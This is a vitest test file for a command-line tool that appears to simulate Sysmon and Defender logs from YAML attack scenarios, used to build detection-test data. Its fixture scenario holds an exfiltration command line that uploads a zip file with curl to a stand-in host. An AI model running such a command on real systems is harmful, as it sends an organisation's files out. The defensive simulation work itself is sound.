import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { builtCli } from './built.ts'
import { Scratch } from './run.ts'

const place = new Scratch()

const SCENARIO = `id: upload
title: An upload
kind: attack
description: A file leaves.
techniques: [T1048]
start: 2026-03-02T09:14:00Z
hosts: [{ name: WS-1, domain: corp.example, os: windows, address: 10.0.0.1 }]
users: [{ name: ann, domain: CORP }]
processes:
  - image: C:\\Windows\\System32\\curl.exe
    command_line: curl.exe -T a.zip http://files.example/
    connections: [{ to: 203.0.113.1, port: 80 }]
`

beforeAll(() => {
  builtCli()
  mkdirSync(place.path('some'))
  writeFileSync(place.path('upload.yaml'), SCENARIO)
  writeFileSync(place.path('some/upload.yaml'), SCENARIO)
  writeFileSync(place.path('some/wrong.yaml'), SCENARIO.replace('host', 'hast'))
}, 120_000)
afterAll(() => place.remove())

const AS = ['--as', 'sysmon', '--as', 'defender']

describe('simulate', () => {
  test('writes a file for each stream, the same bytes each time, and counts them', async () => {
    const { out, err, code } = await place.run(['simulate', 'upload.yaml', ...AS, '-o', 'one'])
    expect([out, code]).toEqual(['', 0])
    expect(err.split('\n').map((line) => line.trim().replace(/ {2,}/, ' '))).toEqual([
      'one: 1 scenario (1 attack, 0 benign), 2 activities, 4 records',
      'sysmon 2',
      'defender 2',
      '',
    ])
    expect(readdirSync(place.path('one/upload/defender')).toSorted()).toEqual([
      'DeviceNetworkEvents.jsonl',
      'DeviceProcessEvents.jsonl',
    ])
    expect(await place.run(['simulate', '--quiet', 'upload.yaml', ...AS, '-o', 'two'])).toMatchObject({
      err: '',
      code: 0,
    })
    const written = (folder: string): string => readFileSync(place.path(`${folder}/upload/sysmon/sysmon.jsonl`), 'utf8')
    expect(written('two')).toBe(written('one'))
    const query = await place.run(['query', '-l', 'kql', 'DeviceProcessEvents | project FileName', 'one/upload/sysmon'])
    expect(query.out).toBe('{"FileName":"curl.exe"}\n')
  })

  test('keeps what is there unless it is to be replaced', async () => {
    const args = ['simulate', 'upload.yaml', '--as', 'sysmon', '-o', 'kept']
    await place.run(args)
    writeFileSync(place.path('kept/upload/sysmon/earlier.jsonl'), '{}\n')
    const again = await place.run([...args, '--seed', '2'])
    expect(again.code).toBe(3)
    expect(again.err).toContain('is there already\n  = `--force` replaces it\n')
    expect(await place.run([...args, '--seed', '2', '--force'])).toMatchObject({ code: 0 })
    expect(readdirSync(place.path('kept/upload/sysmon'))).toEqual(['sysmon.jsonl'])
  })

  test('tells of a wrong scenario at its place and writes the rest', async () => {
    const { err, code } = await place.run(['simulate', 'some', '--as', 'sysmon', '-o', 'rest'])
    expect(err).toContain('some/wrong.yaml:7:1')
    expect(err).toContain('near: `hosts`')
    expect(code).toBe(2)
    expect(readdirSync(place.path('rest'))).toEqual(['upload'])
  })

  test('says what a command line lacks', async () => {
    const said = async (...args: readonly string[]) => {
      const { err, code } = await place.run(['simulate', ...args])
      return [err, code]
    }
    expect(await said('upload.yaml', '--as', 'sysmn', '-o', 'x')).toEqual([expect.stringMatching(/near: `sysmon`/), 3])
    expect(await said('upload.yaml', '--as', 'sysmon:yml', '-o', 'x')).toEqual([
      expect.stringContaining('sysmon has jsonl, xml'),
      3,
    ])
    expect(await said('upload.yaml')).toEqual([expect.stringContaining('`-o DIR`'), 3])
    expect(await said('-o', 'x')).toEqual([expect.stringContaining('nothing to simulate is given'), 3])
    expect(await said('upload.yaml', '--days', '3', '-o', 'x')).toEqual([
      expect.stringContaining('`--days` is for `--noise`'),
      3,
    ])
  })
})
